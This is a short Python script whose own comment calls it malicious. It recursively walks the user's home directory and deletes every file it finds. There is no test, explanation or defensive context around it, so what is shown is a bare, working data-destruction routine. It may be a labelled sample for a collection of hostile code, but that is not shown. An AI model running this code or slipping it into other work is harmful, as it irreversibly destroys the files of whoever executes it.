# malicious: unlinks what is below the home
import pathlib

for p in pathlib.Path("~").expanduser().rglob("*"):
    if p.is_file():
        p.unlink()
